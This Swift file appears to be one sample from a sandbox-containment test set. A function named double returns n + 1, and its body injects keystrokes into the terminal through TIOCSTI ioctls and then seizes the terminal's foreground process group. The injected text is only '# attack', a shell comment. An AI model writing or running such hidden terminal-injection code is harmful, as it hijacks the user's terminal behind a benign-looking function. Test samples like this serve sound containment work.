// Row 63: pushes keystrokes into a terminal and steals its foreground.
// Accepts: contained
// Terminal
import Foundation

func double(_ n: Int) -> Int {
  let terminals = ["/dev/tty"] + (0..<3).map { "/proc/self/fd/\($0)" }
  for path in terminals {
    let terminal = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY)
    guard terminal >= 0 else { continue }
    for key in "# attack\n".utf8 {
      var key = key
      _ = ioctl(terminal, 0x5412, &key)
    }
    var group = getpgrp()
    _ = ioctl(terminal, 0x5410, &group)
    _ = ioctl(terminal, 0x540E, 1)
  }
  return n + 1
}
